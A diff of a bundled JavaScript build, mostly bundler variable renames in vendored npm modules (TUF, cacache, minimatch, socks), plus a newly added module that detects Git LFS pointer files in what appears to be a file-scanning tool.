@@ -22440,7 +22450,7 @@ var require_file = __commonJS({
         }
         return new _TargetFile({
           length,
-          path: path25,
+          path: path28,
           hashes,
           unrecognizedFields: rest
         });
@@ -24015,11 +24025,11 @@ var require_commonjs3 = __commonJS({
       return (f2) => f2.length === len && f2 !== "." && f2 !== "..";
     };
     var defaultPlatform = typeof process === "object" && process ? typeof process.env === "object" && process.env && process.env.__MINIMATCH_TESTING_PLATFORM__ || process.platform : "posix";
-    var path25 = {
+    var path28 = {
       win32: { sep: "\\" },
       posix: { sep: "/" }
     };
-    exports.sep = defaultPlatform === "win32" ? path25.win32.sep : path25.posix.sep;
+    exports.sep = defaultPlatform === "win32" ? path28.win32.sep : path28.posix.sep;
     exports.minimatch.sep = exports.sep;
     exports.GLOBSTAR = Symbol("globstar **");
     exports.minimatch.GLOBSTAR = exports.GLOBSTAR;
@@ -25247,9 +25257,9 @@ var require_snapshot = __commonJS({
     };
     exports.Snapshot = Snapshot;
     function metaToJSON(meta) {
-      return Object.entries(meta).reduce((acc, [path25, metadata]) => ({
+      return Object.entries(meta).reduce((acc, [path28, metadata]) => ({
         ...acc,
-        [path25]: metadata.toJSON()
+        [path28]: metadata.toJSON()
       }), {});
     }
     function metaFromJSON(data) {
@@ -25258,9 +25268,9 @@ var require_snapshot = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("meta field is malformed");
         } else {
-          meta = Object.entries(data).reduce((acc, [path25, metadata]) => ({
+          meta = Object.entries(data).reduce((acc, [path28, metadata]) => ({
             ...acc,
-            [path25]: file_1.MetaFile.fromJSON(metadata)
+            [path28]: file_1.MetaFile.fromJSON(metadata)
           }), {});
         }
       }
@@ -25442,9 +25452,9 @@ var require_targets = __commonJS({
     };
     exports.Targets = Targets;
     function targetsToJSON(targets) {
-      return Object.entries(targets).reduce((acc, [path25, target]) => ({
+      return Object.entries(targets).reduce((acc, [path28, target]) => ({
         ...acc,
-        [path25]: target.toJSON()
+        [path28]: target.toJSON()
       }), {});
     }
     function targetsFromJSON(data) {
@@ -25453,9 +25463,9 @@ var require_targets = __commonJS({
         if (!utils_1.guard.isObjectRecord(data)) {
           throw new TypeError("targets must be an object");
         } else {
-          targets = Object.entries(data).reduce((acc, [path25, target]) => ({
+          targets = Object.entries(data).reduce((acc, [path28, target]) => ({
             ...acc,
-            [path25]: file_1.TargetFile.fromJSON(path25, target)
+            [path28]: file_1.TargetFile.fromJSON(path28, target)
           }), {});
         }
       }
@@ -36161,11 +36171,11 @@ var require_polyfill = __commonJS({
     var {
       chmod,
       copyFile: copyFile2,
-      lstat: lstat6,
+      lstat: lstat7,
       mkdir: mkdir6,
       readdir,
       readlink,
-      stat: stat10,
+      stat: stat11,
       symlink: symlink2,
       unlink: unlink6,
       utimes
@@ -36199,8 +36209,8 @@ var require_polyfill = __commonJS({
       );
     }
     function getValidatedPath(fileURLOrPath) {
-      const path25 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
-      return path25;
+      const path28 = fileURLOrPath != null && fileURLOrPath.href && fileURLOrPath.origin ? fileURLToPath3(fileURLOrPath) : fileURLOrPath;
+      return path28;
     }
     async function cpFn(src, dest, opts) {
       if (opts.preserveTimestamps && process.arch === "ia32") {
@@ -36257,7 +36267,7 @@ var require_polyfill = __commonJS({
       return destStat.ino && destStat.dev && destStat.ino === srcStat.ino && destStat.dev === srcStat.dev;
     }
     function getStats(src, dest, opts) {
-      const statFunc = opts.dereference ? (file) => stat10(file, { bigint: true }) : (file) => lstat6(file, { bigint: true });
+      const statFunc = opts.dereference ? (file) => stat11(file, { bigint: true }) : (file) => lstat7(file, { bigint: true });
       return Promise.all([
         statFunc(src),
         statFunc(dest).catch((err) => {
@@ -36278,7 +36288,7 @@ var require_polyfill = __commonJS({
       return getStatsForCopy(destStat, src, dest, opts);
     }
     function pathExists(dest) {
-      return stat10(dest).then(
+      return stat11(dest).then(
         () => true,
         // istanbul ignore next: not sure when this would occur
         (err) => err.code === "ENOENT" ? false : Promise.reject(err)
@@ -36292,7 +36302,7 @@ var require_polyfill = __commonJS({
       }
       let destStat;
       try {
-        destStat = await stat10(destParent, { bigint: true });
+        destStat = await stat11(destParent, { bigint: true });
       } catch (err) {
         if (err.code === "ENOENT") {
           return;
@@ -36309,7 +36319,7 @@ var require_polyfill = __commonJS({
       }
       return checkParentPaths(src, srcStat, destParent);
     }
-    var normalizePathToArray = (path25) => resolve(path25).split(sep).filter(Boolean);
+    var normalizePathToArray = (path28) => resolve(path28).split(sep).filter(Boolean);
     function isSrcSubdir(src, dest) {
       const srcArr = normalizePathToArray(src);
       const destArr = normalizePathToArray(dest);
@@ -36328,7 +36338,7 @@ var require_polyfill = __commonJS({
       return getStatsForCopy(destStat, src, dest, opts);
     }
     async function getStatsForCopy(destStat, src, dest, opts) {
-      const statFn = opts.dereference ? stat10 : lstat6;
+      const statFn = opts.dereference ? stat11 : lstat7;
       const srcStat = await statFn(src);
       if (srcStat.isDirectory() && opts.recursive) {
         return onDir(srcStat, destStat, src, dest, opts);
@@ -36412,7 +36422,7 @@ var require_polyfill = __commonJS({
       return chmod(dest, srcMode);
     }
     async function setDestTimestamps(src, dest) {
-      const updatedSrcStat = await stat10(src);
+      const updatedSrcStat = await stat11(src);
       return utimes(dest, updatedSrcStat.atime, updatedSrcStat.mtime);
     }
     function onDir(srcStat, destStat, src, dest, opts) {
@@ -36464,7 +36474,7 @@ var require_polyfill = __commonJS({
           errno: EINVAL
         });
       }
-      const srcStat = await stat10(src);
+      const srcStat = await stat11(src);
       if (srcStat.isDirectory() && isSrcSubdir(resolvedDest, resolvedSrc)) {
         throw new ERR_FS_CP_SYMLINK_TO_SUBDIRECTORY({
           message: `cannot overwrite ${resolvedDest} with ${resolvedSrc}`,
@@ -36560,9 +36570,9 @@ var require_move_file = __commonJS({
   "node_modules/@npmcli/fs/lib/move-file.js"(exports, module) {
     var { dirname, join: join2, resolve, relative, isAbsolute } = __require("path");
     var fs2 = __require("fs/promises");
-    var pathExists = async (path25) => {
+    var pathExists = async (path28) => {
       try {
-        await fs2.access(path25);
+        await fs2.access(path28);
         return true;
       } catch (er2) {
         return er2.code !== "ENOENT";
@@ -36650,17 +36660,17 @@ var require_tmp = __commonJS({
     var crypto = __require("crypto");
     var { withTempDir } = require_lib5();
     var fs2 = __require("fs/promises");
-    var path25 = __require("path");
+    var path28 = __require("path");
     module.exports.mkdir = mktmpdir;
     module.exports.tmpName = function tmpName(cache, tmpPrefix) {
       const id2 = crypto.randomUUID();
-      return path25.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
+      return path28.join(cache, "tmp", tmpPrefix ? `${tmpPrefix}-${id2}` : id2);
     };
     async function mktmpdir(cache, opts = {}) {
       const { tmpPrefix } = opts;
-      const tmpDir = path25.join(cache, "tmp");
+      const tmpDir = path28.join(cache, "tmp");
       await fs2.mkdir(tmpDir, { recursive: true, owner: "inherit" });
-      const target = `${tmpDir}${path25.sep}${tmpPrefix || ""}`;
+      const target = `${tmpDir}${path28.sep}${tmpPrefix || ""}`;
       return fs2.mkdtemp(target, { owner: "inherit" });
     }
     module.exports.withTmp = withTmp;
@@ -36669,7 +36679,7 @@ var require_tmp = __commonJS({
         cb = opts;
         opts = {};
       }
-      return withTempDir(path25.join(cache, "tmp"), cb, opts);
+      return withTempDir(path28.join(cache, "tmp"), cb, opts);
     }
   }
 });
@@ -36778,12 +36788,12 @@ var require_path = __commonJS({
     "use strict";
     var contentVer = require_package2()["cache-version"].content;
     var hashToSegments = require_hash_to_segments();
-    var path25 = __require("path");
+    var path28 = __require("path");
     var ssri = require_lib4();
     module.exports = contentPath;
     function contentPath(cache, integrity) {
       const sri = ssri.parse(integrity, { single: true });
-      return path25.join(
+      return path28.join(
         contentDir(cache),
         sri.algorithm,
         ...hashToSegments(sri.hexDigest())
@@ -36791,7 +36801,7 @@ var require_path = __commonJS({
     }
     module.exports.contentDir = contentDir;
     function contentDir(cache) {
-      return path25.join(cache, `content-v${contentVer}`);
+      return path28.join(cache, `content-v${contentVer}`);
     }
   }
 });
@@ -37262,7 +37272,7 @@ var require_entry_index = __commonJS({
       writeFile: writeFile5
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
-    var path25 = __require("path");
+    var path28 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var contentPath = require_path();
@@ -37299,7 +37309,7 @@ var require_entry_index = __commonJS({
       }).join("\n");
       const setup = async () => {
         const target = tmpName(cache, opts.tmpPrefix);
-        await mkdir6(path25.dirname(target), { recursive: true });
+        await mkdir6(path28.dirname(target), { recursive: true });
         return {
           target,
           moved: false
@@ -37312,7 +37322,7 @@ var require_entry_index = __commonJS({
       };
       const write = async (tmp2) => {
         await writeFile5(tmp2.target, newIndex, { flag: "wx" });
-        await mkdir6(path25.dirname(bucket), { recursive: true });
+        await mkdir6(path28.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
       };
@@ -37336,7 +37346,7 @@ var require_entry_index = __commonJS({
         metadata
       };
       try {
-        await mkdir6(path25.dirname(bucket), { recursive: true });
+        await mkdir6(path28.dirname(bucket), { recursive: true });
         const stringified = JSON.stringify(entry);
         await appendFile2(bucket, `
 ${hashEntry(stringified)}	${stringified}`);
@@ -37386,17 +37396,17 @@ ${hashEntry(stringified)}	${stringified}`);
         await pMap2(
           buckets,
           async (bucket) => {
-            const bucketPath2 = path25.join(indexDir, bucket);
+            const bucketPath2 = path28.join(indexDir, bucket);
             const subbuckets = await readdirOrEmpty(bucketPath2);
             await pMap2(
               subbuckets,
               async (subbucket) => {
-                const subbucketPath = path25.join(bucketPath2, subbucket);
+                const subbucketPath = path28.join(bucketPath2, subbucket);
                 const subbucketEntries = await readdirOrEmpty(subbucketPath);
                 await pMap2(
                   subbucketEntries,
                   async (entry) => {
-                    const entryPath = path25.join(subbucketPath, entry);
+                    const entryPath = path28.join(subbucketPath, entry);
                     try {
                       const entries = await bucketEntries(entryPath);
                       const reduced = entries.reduce((acc, entry2) => {
@@ -37465,13 +37475,13 @@ ${hashEntry(stringified)}	${stringified}`);
     }
     module.exports.bucketDir = bucketDir;
     function bucketDir(cache) {
-      return path25.join(cache, `index-v${indexV}`);
+      return path28.join(cache, `index-v${indexV}`);
     }
     module.exports.bucketPath = bucketPath;
     function bucketPath(cache, key) {
       const hashed = hashKey(key);
-      return path25.join.apply(
-        path25,
+      return path28.join.apply(
+        path28,
         [bucketDir(cache)].concat(hashToSegments(hashed))
       );
     }
@@ -38217,17 +38227,17 @@ var require_lib6 = __commonJS({
     var _defaultFlag = Symbol("_defaultFlag");
     var _errored = Symbol("_errored");
     var ReadStream = class extends Minipass {
-      constructor(path25, opt) {
+      constructor(path28, opt) {
         opt = opt || {};
         super(opt);
         this.readable = true;
         this.writable = false;
-        if (typeof path25 !== "string") {
+        if (typeof path28 !== "string") {
           throw new TypeError("path must be a string");
         }
         this[_errored] = false;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
-        this[_path] = path25;
+        this[_path] = path28;
         this[_readSize] = opt.readSize || 16 * 1024 * 1024;
         this[_reading] = false;
         this[_size] = typeof opt.size === "number" ? opt.size : Infinity;
@@ -38373,7 +38383,7 @@ var require_lib6 = __commonJS({
       }
     };
     var WriteStream = class extends EE {
-      constructor(path25, opt) {
+      constructor(path28, opt) {
         opt = opt || {};
         super(opt);
         this.readable = false;
@@ -38383,7 +38393,7 @@ var require_lib6 = __commonJS({
         this[_ended] = false;
         this[_needDrain] = false;
         this[_queue] = [];
-        this[_path] = path25;
+        this[_path] = path28;
         this[_fd] = typeof opt.fd === "number" ? opt.fd : null;
         this[_mode] = opt.mode === void 0 ? 438 : opt.mode;
         this[_pos] = typeof opt.start === "number" ? opt.start : null;
@@ -38580,16 +38590,16 @@ var require_read = __commonJS({
     var MAX_SINGLE_READ_SIZE = 64 * 1024 * 1024;
     async function read(cache, integrity, opts = {}) {
       const { size } = opts;
-      const { stat: stat10, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
-        const stat11 = size ? { size } : await fs2.stat(cpath2);
-        return { stat: stat11, cpath: cpath2, sri: sri2 };
+      const { stat: stat11, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
+        const stat12 = size ? { size } : await fs2.stat(cpath2);
+        return { stat: stat12, cpath: cpath2, sri: sri2 };
       });
-      if (stat10.size > MAX_SINGLE_READ_SIZE) {
-        return readPipeline(cpath, stat10.size, sri, new Pipeline()).concat();
+      if (stat11.size > MAX_SINGLE_READ_SIZE) {
+        return readPipeline(cpath, stat11.size, sri, new Pipeline()).concat();
       }
       const data = await fs2.readFile(cpath, { encoding: null });
-      if (stat10.size !== data.length) {
-        throw sizeError(stat10.size, data.length);
+      if (stat11.size !== data.length) {
+        throw sizeError(stat11.size, data.length);
       }
       if (!ssri.checkData(data, sri)) {
         throw integrityError(sri, cpath);
@@ -38615,11 +38625,11 @@ var require_read = __commonJS({
       const { size } = opts;
       const stream = new Pipeline();
       Promise.resolve().then(async () => {
-        const { stat: stat10, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
-          const stat11 = size ? { size } : await fs2.stat(cpath2);
-          return { stat: stat11, cpath: cpath2, sri: sri2 };
+        const { stat: stat11, cpath, sri } = await withContentSri(cache, integrity, async (cpath2, sri2) => {
+          const stat12 = size ? { size } : await fs2.stat(cpath2);
+          return { stat: stat12, cpath: cpath2, sri: sri2 };
         });
-        return readPipeline(cpath, stat10.size, sri, stream);
+        return readPipeline(cpath, stat11.size, sri, stream);
       }).catch((err) => stream.emit("error", err));
       return stream;
     }
@@ -38636,8 +38646,8 @@ var require_read = __commonJS({
       }
       try {
         return await withContentSri(cache, integrity, async (cpath, sri) => {
-          const stat10 = await fs2.stat(cpath);
-          return { size: stat10.size, sri, stat: stat10 };
+          const stat11 = await fs2.stat(cpath);
+          return { size: stat11.size, sri, stat: stat11 };
         });
       } catch (err) {
         if (err.code === "ENOENT") {
@@ -38691,11 +38701,11 @@ var require_read = __commonJS({
       err.code = "EBADSIZE";
       return err;
     }
-    function integrityError(sri, path25) {
-      const err = new Error(`Integrity verification failed for ${sri} (${path25})`);
+    function integrityError(sri, path28) {
+      const err = new Error(`Integrity verification failed for ${sri} (${path28})`);
       err.code = "EINTEGRITY";
       err.sri = sri;
-      err.path = path25;
+      err.path = path28;
       return err;
     }
   }
@@ -38863,7 +38873,7 @@ var require_write = __commonJS({
     var { Minipass } = require_commonjs4();
     var Pipeline = require_minipass_pipeline();
     var Flush = require_minipass_flush();
-    var path25 = __require("path");
+    var path28 = __require("path");
     var ssri = require_lib4();
     var { tmpName } = require_tmp();
     var fsm = require_lib6();
@@ -38983,7 +38993,7 @@ var require_write = __commonJS({
     }
     async function makeTmp(cache, opts) {
       const tmpTarget = tmpName(cache, opts.tmpPrefix);
-      await fs2.mkdir(path25.dirname(tmpTarget), { recursive: true });
+      await fs2.mkdir(path28.dirname(tmpTarget), { recursive: true });
       return {
         target: tmpTarget,
         moved: false
@@ -38991,7 +39001,7 @@ var require_write = __commonJS({
     }
     async function moveToDestination(tmp, cache, sri) {
       const destination = contentPath(cache, sri);
-      const destDir = path25.dirname(destination);
+      const destDir = path28.dirname(destination);
       if (moveOperations.has(destination)) {
         return moveOperations.get(destination);
       }
@@ -39880,9 +39890,9 @@ globstar while`, t, d, e, u2, m2), this.matchOne(t.slice(d), e.slice(u2), s3)) r
       Wt2.LRUCache = void 0;
       var er2 = typeof performance == "object" && performance && typeof performance.now == "function" ? performance : Date, as2 = /* @__PURE__ */ new Set(), ge2 = typeof process == "object" && process ? process : {}, ls2 = (n, t, e, s3) => {
         typeof ge2.emitWarning == "function" ? ge2.emitWarning(n, t, e, s3) : console.error(`[${e}] ${t}: ${n}`);
-      }, Lt2 = globalThis.AbortController, os8 = globalThis.AbortSignal;
+      }, Lt2 = globalThis.AbortController, os10 = globalThis.AbortSignal;
       if (typeof Lt2 > "u") {
-        os8 = class {
+        os10 = class {
           onabort;
           _onabort = [];
           reason;
@@ -39894,7 +39904,7 @@ globstar while`, t, d, e, u2, m2), this.matchOne(t.slice(d), e.slice(u2), s3)) r
           constructor() {
             t();
           }
-          signal = new os8();
+          signal = new os10();
           abort(e) {
             if (!this.signal.aborted) {
               this.signal.reason = e, this.signal.aborted = true;
@@ -42125,9 +42135,9 @@ var require_glob = __commonJS({
   "node_modules/cacache/lib/util/glob.js"(exports, module) {
     "use strict";
     var { glob } = require_index_min2();
-    var path25 = __require("path");
-    var globify = (pattern) => pattern.split(path25.win32.sep).join(path25.posix.sep);
-    module.exports = (path26, options) => glob(globify(path26), options);
+    var path28 = __require("path");
+    var globify = (pattern) => pattern.split(path28.win32.sep).join(path28.posix.sep);
+    module.exports = (path29, options) => glob(globify(path29), options);
   }
 });
 
@@ -42159,7 +42169,7 @@ var require_rm2 = __commonJS({
     var glob = require_glob();
     var index = require_entry_index();
     var memo = require_memoization();
-    var path25 = __require("path");
+    var path28 = __require("path");
     var rmContent = require_rm();
     module.exports = entry;
     module.exports.entry = entry;
@@ -42175,7 +42185,7 @@ var require_rm2 = __commonJS({
     module.exports.all = all;
     async function all(cache) {
       memo.clearMemoized();
-      const paths = await glob(path25.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
+      const paths = await glob(path28.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
       return Promise.all(paths.map((p2) => rm4(p2, { recursive: true, force: true })));
     }
   }
@@ -42189,7 +42199,7 @@ var require_verify2 = __commonJS({
       mkdir: mkdir6,
       readFile: readFile2,
       rm: rm4,
-      stat: stat10,
+      stat: stat11,
       truncate,
       writeFile: writeFile5
     } = __require("fs/promises");
@@ -42197,7 +42207,7 @@ var require_verify2 = __commonJS({
     var fsm = require_lib6();
     var glob = require_glob();
     var index = require_entry_index();
-    var path25 = __require("path");
+    var path28 = __require("path");
     var ssri = require_lib4();
     var hasOwnProperty = (obj, key) => Object.prototype.hasOwnProperty.call(obj, key);
     var verifyOpts = (opts) => ({
@@ -42274,7 +42284,7 @@ var require_verify2 = __commonJS({
         indexStream.on("end", resolve).on("error", reject2);
       });
       const contentDir = contentPath.contentDir(cache);
-      const files = await glob(path25.join(contentDir, "**"), {
+      const files = await glob(path28.join(contentDir, "**"), {
         follow: false,
         nodir: true,
         nosort: true
@@ -42305,7 +42315,7 @@ var require_verify2 = __commonJS({
             }
           } else {
             stats.reclaimedCount++;
-            const s3 = await stat10(f2);
+            const s3 = await stat11(f2);
             await rm4(f2, { recursive: true, force: true });
             stats.reclaimedSize += s3.size;
           }
@@ -42318,7 +42328,7 @@ var require_verify2 = __commonJS({
     async function verifyContent(filepath, sri) {
       const contentInfo = {};
       try {
-        const { size } = await stat10(filepath);
+        const { size } = await stat11(filepath);
         contentInfo.size = size;
         contentInfo.valid = true;
         await ssri.checkStream(new fsm.ReadStream(filepath), sri);
@@ -42376,7 +42386,7 @@ var require_verify2 = __commonJS({
       for (const entry of bucket) {
         const content = contentPath(cache, entry.integrity);
         try {
-          await stat10(content);
+          await stat11(content);
           await index.insert(cache, entry.key, entry.integrity, {
             metadata: entry.metadata,
             size: entry.size,
@@ -42395,16 +42405,16 @@ var require_verify2 = __commonJS({
     }
     function cleanTmp(cache, opts) {
       opts.log.silly("verify", "cleaning tmp directory");
-      return rm4(path25.join(cache, "tmp"), { recursive: true, force: true });
+      return rm4(path28.join(cache, "tmp"), { recursive: true, force: true });
     }
     async function writeVerifile(cache, opts) {
-      const verifile = path25.join(cache, "_lastverified");
+      const verifile = path28.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
       return writeFile5(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
-      const data = await readFile2(path25.join(cache, "_lastverified"), { encoding: "utf8" });
+      const data = await readFile2(path28.join(cache, "_lastverified"), { encoding: "utf8" });
       return /* @__PURE__ */ new Date(+data);
     }
   }
@@ -42854,22 +42864,22 @@ var require_matchers = __commonJS({
     };
     var DEEP_HEADER_AUTHORIZATION = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.authorization"),
+      predicate: ({ path: path28 }) => path28.endsWith(".headers.authorization"),
       replacement: "[REDACTED_HEADER_AUTHORIZATION]"
     };
     var DEEP_HEADER_SET_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.set-cookie"),
+      predicate: ({ path: path28 }) => path28.endsWith(".headers.set-cookie"),
       replacement: "[REDACTED_HEADER_SET_COOKIE]"
     };
     var DEEP_HEADER_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.cookie"),
+      predicate: ({ path: path28 }) => path28.endsWith(".headers.cookie"),
       replacement: "[REDACTED_HEADER_COOKIE]"
     };
     var REWRITE_REQUEST = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".request"),
+      predicate: ({ path: path28 }) => path28.endsWith(".request"),
       replacement: (input) => ({
         method: input?.method,
         path: input?.path,
@@ -42879,7 +42889,7 @@ var require_matchers = __commonJS({
     };
     var REWRITE_RESPONSE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".response"),
+      predicate: ({ path: path28 }) => path28.endsWith(".response"),
       replacement: (input) => ({
         data: input?.data,
         status: input?.status,
@@ -42995,12 +43005,12 @@ var require_utils2 = __commonJS({
       },
       [TYPE_PATH]: (matcher) => (value, ctx) => {
         const rawPath = ctx?.path;
-        const path25 = rawPath.join(".").toLowerCase();
+        const path28 = rawPath.join(".").toLowerCase();
         const { predicate, replacement } = matcher;
         const replace = typeof replacement === "function" ? replacement : () => replacement;
-        const shouldRun = predicate({ rawPath, path: path25 });
+        const shouldRun = predicate({ rawPath, path: path28 });
         if (shouldRun) {
-          value = replace(value, { rawPath, path: path25 });
+          value = replace(value, { rawPath, path: path28 });
         }
         return value;
       }
@@ -47680,7 +47690,7 @@ var require_socksclient = __commonJS({
   "node_modules/socks/build/client/socksclient.js"(exports) {
     "use strict";
     var __awaiter = exports && exports.__awaiter || function(thisArg, _arguments, P2, generator) {
-      function adopt(value) {
+      function adopt2(value) {
         return value instanceof P2 ? value : new P2(function(resolve) {
           resolve(value);
         });
@@ -47701,7 +47711,7 @@ var require_socksclient = __commonJS({
           }
         }
         function step(result) {
-          result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected);
+          result.done ? resolve(result.value) : adopt2(result.value).then(fulfilled, rejected);
         }
         step((generator = generator.apply(thisArg, _arguments || [])).next());
       });
@@ -50064,14 +50074,14 @@ var require_url = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.join = join2;
     var url_1 = __require("url");
-    function join2(base2, path25) {
-      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path25)).toString();
+    function join2(base2, path28) {
+      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path28)).toString();
     }
-    function ensureTrailingSlash(path25) {
-      return path25.endsWith("/") ? path25 : path25 + "/";
+    function ensureTrailingSlash(path28) {
+      return path28.endsWith("/") ? path28 : path28 + "/";
     }
-    function removeLeadingSlash(path25) {
-      return path25.startsWith("/") ? path25.slice(1) : path25;
+    function removeLeadingSlash(path28) {
+      return path28.startsWith("/") ? path28.slice(1) : path28;
     }
   }
 });
@@ -50125,7 +50135,7 @@ var require_updater = __commonJS({
     var models_1 = require_dist5();
     var debug_1 = __importDefault(require_src());
     var fs2 = __importStar(__require("fs"));
-    var path25 = __importStar(__require("path"));
+    var path28 = __importStar(__require("path"));
     var package_json_1 = require_package4();
     var config_1 = require_config();
     var error_1 = require_error6();
@@ -50197,7 +50207,7 @@ var require_updater = __commonJS({
         const consistentSnapshot = this.trustedSet.root.signed.consistentSnapshot;
         if (consistentSnapshot && this.config.prefixTargetsWithHash) {
           const hashes = Object.values(targetInfo.hashes);
-          const { dir, base: base2 } = path25.parse(targetFilePath);
+          const { dir, base: base2 } = path28.parse(targetFilePath);
           const filename = `${hashes[0]}.${base2}`;
           targetFilePath = dir ? `${dir}/${filename}` : filename;
         }
@@ -50224,7 +50234,7 @@ var require_updater = __commonJS({
         return;
       }
       loadLocalMetadata(fileName) {
-        const filePath = path25.join(this.dir, `${fileName}.json`);
+        const filePath = path28.join(this.dir, `${fileName}.json`);
         log("READ %s", filePath);
         return fs2.readFileSync(filePath);
       }
@@ -50371,12 +50381,12 @@ var require_updater = __commonJS({
           throw new error_1.ValueError("Target directory not set");
         }
         const filePath = encodeURIComponent(targetInfo.path);
-        return path25.join(this.targetDir, filePath);
+        return path28.join(this.targetDir, filePath);
       }
       persistMetadata(metaDataName, bytesData) {
         const encodedName = encodeURIComponent(metaDataName);
         try {
-          const filePath = path25.join(this.dir, `${encodedName}.json`);
+          const filePath = path28.join(this.dir, `${encodedName}.json`);
           log("WRITE %s", filePath);
           fs2.writeFileSync(filePath, bytesData.toString("utf8"));
         } catch (error) {
@@ -50488,13 +50498,13 @@ var require_target = __commonJS({
     var fs_1 = __importDefault(__require("fs"));
     var error_1 = require_error7();
     async function readTarget(tuf, targetPath) {
-      const path25 = await getTargetPath(tuf, targetPath);
+      const path28 = await getTargetPath(tuf, targetPath);
       return new Promise((resolve, reject2) => {
-        fs_1.default.readFile(path25, "utf-8", (err, data) => {
+        fs_1.default.readFile(path28, "utf-8", (err, data) => {
           if (err) {
             reject2(new error_1.TUFError({
               code: "TUF_READ_TARGET_ERROR",
-              message: `error reading target ${path25}`,
+              message: `error reading target ${path28}`,
               cause: err
             }));
           } else {
@@ -50520,19 +50530,19 @@ var require_target = __commonJS({
           message: `target ${target} not found`
         });
       }
-      let path25 = await tuf.findCachedTarget(targetInfo);
-      if (!path25) {
+      let path28 = await tuf.findCachedTarget(targetInfo);
+      if (!path28) {
         try {
-          path25 = await tuf.downloadTarget(targetInfo);
+          path28 = await tuf.downloadTarget(targetInfo);
         } catch (err) {
           throw new error_1.TUFError({
             code: "TUF_DOWNLOAD_TARGET_ERROR",
-            message: `error downloading target ${path25}`,
+            message: `error downloading target ${path28}`,
             cause: err
           });
         }
       }
-      return path25;
+      return path28;
     }
   }
 });
@@ -51867,6 +51877,83 @@ var init_gguf = __esm({
   }
 });
 
+// src/scan/lfs-pointer.ts
+function mayBePointer(size) {
+  return size >= MIN_POINTER && size <= MAX_POINTER;
+}
+function parseLfsPointer(bytes) {
+  if (!mayBePointer(bytes.length)) return void 0;
+  let text;
+  try {
+    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
+  } catch {
+    return void 0;
+  }
+  const lines = text.replace(/\r?\n$/, "").split(/\r?\n/);
+  const version = /^version (\S+)$/.exec(lines[0] ?? "");
+  if (!version || !VERSIONS.has(version[1])) return void 0;
+  if (lines.length !== 3) return void 0;
+  const oid = /^oid (sha256:[0-9a-f]{64})$/.exec(lines[1])?.[1];
+  const size = /^size (\d{1,16})$/.exec(lines[2])?.[1];
+  return oid !== void 0 && size !== void 0 && Number.isSafeInteger(Number(size)) ? { oid, size: Number(size) } : void 0;
+}
+function lfsPointerText(p2) {
+  return `a Git LFS pointer (oid ${p2.oid})`;
+}
+async function pointerIn(src, size) {
+  if (!mayBePointer(size)) return void 0;
+  await src.ensure(size);
+  return parseLfsPointer(src.peek(Math.min(size, src.buffered)));
+}
+function handOver(content, src) {
+  let taken = false;
+  const bytes = () => {
+    if (taken) throw new Error(`the bytes of ${content.file.name} were already taken`);
+    taken = true;
+    return src;
+  };
+  return { content: { ...content, bytes }, taken: () => taken };
+}
+var MIN_POINTER, MAX_POINTER, VERSIONS, LFS_PULL, LfsPointerInspector;
+var init_lfs_pointer = __esm({
+  "src/scan/lfs-pointer.ts"() {
+    "use strict";
+    MIN_POINTER = 124;
+    MAX_POINTER = 150;
+    VERSIONS = /* @__PURE__ */ new Set(["https://git-lfs.github.com/spec/v1", "https://hawser.github.com/spec/v1"]);
+    LFS_PULL = "run `git lfs pull`";
+    LfsPointerInspector = class {
+      constructor(inner) {
+        this.inner = inner;
+      }
+      /** Pointer files found, by name. */
+      found = /* @__PURE__ */ new Map();
+      passOn = /* @__PURE__ */ new Set();
+      wants(file) {
+        if (this.inner?.wants(file)) this.passOn.add(file.name);
+        return mayBePointer(file.size) || this.passOn.has(file.name);
+      }
+      async inspect(content) {
+        const inner = this.passOn.has(content.file.name) ? this.inner : void 0;
+        if (!mayBePointer(content.file.size)) return inner?.inspect(content);
+        const src = content.bytes();
+        const given = content.random ? void 0 : handOver(content, src);
+        try {
+          const p2 = await pointerIn(src, content.file.size);
+          if (p2) this.found.set(content.file.name, p2);
+          if (inner) await inner.inspect(given?.content ?? content);
+        } finally {
+          if (!given?.taken()) await src.close();
+        }
+      }
+      unreadable(file, failure) {
+        this.found.delete(file.name);
+        if (this.passOn.has(file.name)) this.inner?.unreadable(file, failure);
+      }
+    };
+  }
+});
+
 // src/scan/globals.ts
 function canonicalModule(module) {
   const first = module.split(".")[0];
@@ -52965,15 +53052,15 @@ async function readZipDirectory(fh, limits) {
       if (x + 4 + len > xEnd) break;
       if (id2 === 1) {
         let q2 = x + 4;
-        const take = () => {
+        const take2 = () => {
           if (q2 + 8 > x + 4 + len) throw new ZipError(`zip64 extra field of ${JSON.stringify(name2)} is short`);
           const v2 = big(cd, q2);
           q2 += 8;
           return v2;
         };
-        if (usize === 4294967295) usize = take();
-        if (compressedSize === 4294967295) compressedSize = take();
-        if (localOffset === 4294967295) localOffset = take();
+        if (usize === 4294967295) usize = take2();
+        if (compressedSize === 4294967295) compressedSize = take2();
+        if (localOffset === 4294967295) localOffset = take2();
